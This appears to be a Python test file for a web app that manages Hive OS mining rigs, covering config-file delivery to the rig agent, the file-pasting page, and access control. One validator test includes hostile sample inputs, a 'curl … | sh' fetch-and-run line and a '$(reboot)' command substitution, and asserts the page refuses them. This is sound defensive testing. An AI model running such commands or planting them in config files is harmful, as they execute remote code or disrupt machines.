    rig = RigFactory(name="curl-rig")
    password = hive_agent.set_hive_password(rig)
    store_files(rig, *ALL_FILES)
    hello = fixture("hello", rig, password)
    hello["params"]["server_url"] = live_server.url  # the agent sends its HIVE_HOST_URL
    for name in ALL_FILES:  # what the rig has before: the same files, older
        (tmp_path / name).write_text("OLD=1\n")
    env = {"PATH": os.environ["PATH"], "HIVE_URL": f"{live_server.url}/worker/api",
           "RIG_ID": str(rig.pk), "request": json.dumps(hello, indent=2)}  # fmt: skip

    done = subprocess.run(["bash", "-c", HELLO_SAVES], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=30)  # fmt: skip

    assert done.returncode == 0, done.stdout + done.stderr
    assert (tmp_path / "rig.conf").read_text() == (
        conf("rig.conf")
        .replace('HIVE_HOST_URL="http://api.hiveos.farm"', f'HIVE_HOST_URL="{live_server.url}"')
        .replace("RIG_ID=7310425", f"RIG_ID={rig.pk}")
        .replace(f'RIG_PASSWD="{PASTED_PASSWORD}"', f'RIG_PASSWD="{password}"')
    )
    for name in ALL_FILES[1:]:  # the two spaces and the two-line value of wallet.conf included
        assert (tmp_path / name).read_text() == conf(name), name

    # The agent's next loop sources the new rig.conf and reports with what it says.
    stats = compact(fixture("stats"))
    script = (
        '. ./rig.conf; HIVE_URL="$HIVE_HOST_URL/worker/api"; '
        'request=$(echo "$stats" | jq -c --arg r "$RIG_ID" --arg p "$RIG_PASSWD" '
        "'.params.rig_id=$r | .params.passwd=$p'); " + AGENT_STATS_PLAIN
    )
    env = {"PATH": os.environ["PATH"], "stats": stats}
    answer = subprocess.run(["bash", "-c", script], env=env, cwd=tmp_path, capture_output=True,
                            timeout=30)  # fmt: skip
    assert json.loads(answer.stdout)["result"] == {"command": "OK"}
    assert GpuSample.objects.filter(gpu__rig=rig).count() == 3


def test_a_hello_answer_without_the_oc_files_deletes_them_on_the_rig_as_hive_does(
    transactional_db, live_server, tmp_path
):
    rig = RigFactory(name="curl-rig")
    password = hive_agent.set_hive_password(rig)
    store_files(rig, "rig.conf")  # confirmed: the owner says the rig has no OC files
    hello = fixture("hello", rig, password)
    hello["params"]["server_url"] = live_server.url
    for name in ALL_FILES:
        (tmp_path / name).write_text(conf(name))
    env = {"PATH": os.environ["PATH"], "HIVE_URL": f"{live_server.url}/worker/api",
           "RIG_ID": str(rig.pk), "request": json.dumps(hello, indent=2)}  # fmt: skip

    subprocess.run(["bash", "-c", HELLO_SAVES], env=env, cwd=tmp_path, check=True, timeout=30)

    left = {p.name for p in tmp_path.iterdir()}
    assert left == {"rig.conf", "wallet.conf", "autofan.conf"}
    assert (tmp_path / "wallet.conf").read_text() == conf("wallet.conf")  # kept as it was


def test_without_stored_files_the_agents_hello_changes_no_file(
    transactional_db, live_server, tmp_path
):
    rig = RigFactory(name="curl-rig")
    password = hive_agent.set_hive_password(rig)
    for name in ALL_FILES:
        (tmp_path / name).write_text(conf(name))
    env = {"PATH": os.environ["PATH"], "HIVE_URL": f"{live_server.url}/worker/api",
           "RIG_ID": str(rig.pk), "request": compact(fixture("hello", rig, password))}  # fmt: skip

    done = subprocess.run(["bash", "-c", HELLO_SAVES], env=env, cwd=tmp_path, timeout=30,
                          capture_output=True, text=True)  # fmt: skip

    assert done.returncode == 3 and '"code":-32002' in done.stdout  # hello stops at the error
    assert {p.name: p.read_text() for p in tmp_path.iterdir()} == {n: conf(n) for n in ALL_FILES}


# -- the Hive OS files page -------------------------------------------------------------------


def page_form(**overrides):
    data = {"rig_conf": conf("rig.conf"), "wallet_conf": conf("wallet.conf"),
            "nvidia_oc_conf": conf("nvidia-oc.conf"), "amd_oc_conf": conf("amd-oc.conf"),
            "autofan_conf": "", "oc_files_confirmed": "on", "save": ""}  # fmt: skip
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def test_the_owner_pastes_the_rigs_files_and_hello_gets_them(alpha):
    client = logged_in(alpha.owner)
    url = f"/rigs/{alpha.rig.pk}/hive-config/"
    page = client.get(url).content.decode()
    assert "No files of this rig are stored" in page and "cat /hive-config/rig.conf" in page

    response = client.post(url, page_form(), follow=True)

    page = response.content.decode()
    assert "RIG_PASSWD taken out of 1 line(s)" in page
    assert "hello is answered with: rig.conf, wallet.conf, nvidia-oc.conf, amd-oc.conf" in page
    assert PASTED_PASSWORD not in page and "LOLMINER_TEMPLATE" in page  # owners see the files
    config = HiveConfig.objects.get(rig=alpha.rig)
    assert config.oc_files_confirmed and config.autofan_conf == ""
    assert PASTED_PASSWORD not in config.rig_conf
    password = hive_agent.set_hive_password(alpha.rig)
    result = post(Client(), alpha.rig, fixture("hello", alpha.rig, password), method="hello")
    assert set(result.json()["result"]) == {"config", "wallet", "nvidia_oc", "amd_oc"}


@pytest.mark.parametrize(
    ("overrides", "field_error"),
    [
        ({"rig_conf": conf("rig.conf") + "curl -s http://x | sh\n"}, "not a KEY=value line"),
        ({"nvidia_oc_conf": 'CLOCK="$(reboot)"\n'}, "command substitution"),
        ({"rig_conf": 'RIG_ID=7\nRIG_PASSWD="x"\n'}, "paste the whole file"),
        ({"oc_files_confirmed": None}, "This field is required"),
        ({"rig_conf": ""}, "This field is required"),
    ],
    ids=["command-line", "oc-substitution", "only-ethdash-keys", "unconfirmed", "no-rig-conf"],
)
def test_the_page_refuses_what_is_not_the_rigs_files_and_stores_nothing(
    alpha, overrides, field_error
):
    response = logged_in(alpha.owner).post(
        f"/rigs/{alpha.rig.pk}/hive-config/", page_form(**overrides)
    )
    assert response.status_code == 200
    assert field_error in response.content.decode()
    assert not HiveConfig.objects.exists()


def test_the_page_warns_that_an_oc_file_not_pasted_is_deleted(alpha):
    store_files(alpha.rig, "rig.conf", "nvidia-oc.conf")
    page = logged_in(alpha.owner).get(f"/rigs/{alpha.rig.pk}/hive-config/").content.decode()
    assert "The next hello deletes the rig's amd-oc.conf" in page


def test_the_owner_forgets_the_files_and_hello_writes_nothing_again(alpha):
    store_files(alpha.rig, *ALL_FILES)
    logged_in(alpha.owner).post(f"/rigs/{alpha.rig.pk}/hive-config/", {"remove": ""})
    assert not HiveConfig.objects.exists()
    password = hive_agent.set_hive_password(alpha.rig)
    answer = post(Client(), alpha.rig, fixture("hello", alpha.rig, password), method="hello")
    assert answer.json()["error"]["code"] == -32002


def test_a_viewer_sees_which_files_are_stored_but_not_their_content(alpha):
    store_files(alpha.rig, "rig.conf", "wallet.conf")
    client = logged_in(alpha.viewer)
    page = client.get(f"/rigs/{alpha.rig.pk}/hive-config/").content.decode()
    assert "hello is answered with: rig.conf, wallet.conf" in page
    assert "0x7d3a1c9e" not in page and "WORKER_NAME" not in page and "<textarea" not in page
    for data in (page_form(rig_conf="MINER=trex\n"), {"remove": ""}):
        assert client.post(f"/rigs/{alpha.rig.pk}/hive-config/", data).status_code == 403
    assert HiveConfig.objects.get(rig=alpha.rig).rig_conf.startswith("### MINERS HIVE CONFIGS")


def test_another_farms_owner_cannot_see_or_change_the_rigs_files(alpha, bravo):
    store_files(alpha.rig, *ALL_FILES)
    before = HiveConfig.objects.filter(rig=alpha.rig).values().get()
    client = logged_in(bravo.owner)
    url = f"/rigs/{alpha.rig.pk}/hive-config/"
    assert client.get(url).status_code == 404
    assert client.post(url, page_form(rig_conf="MINER=trex\n")).status_code == 404
    assert client.post(url, {"remove": ""}).status_code == 404
    assert HiveConfig.objects.filter(rig=alpha.rig).values().get() == before


def test_the_simulated_agent_sends_its_server_url_and_gets_the_rigs_files(
    transactional_db, live_server, caplog
):
    from simulators.rig_agent import HiveAgentRig, SimulatedRig, run

    rig = RigFactory(name="simulated-hive-rig")
    password = hive_agent.set_hive_password(rig)
    store_files(rig, "rig.conf", "wallet.conf")
    simulated = SimulatedRig(str(rig.pk), 2, "rtx3070", cadence=0.3)
    assert HiveAgentRig(simulated, password).hello_body("http://x")["params"]["server_url"]

    with caplog.at_level("INFO", logger="rig_agent"):
        run(live_server.url, None, [simulated], cadence=0.3, duration=0.5,
            hive={str(rig.pk): password})  # fmt: skip

    assert f"rig {rig.pk}: hello answered with ['config', 'wallet']" in caplog.text
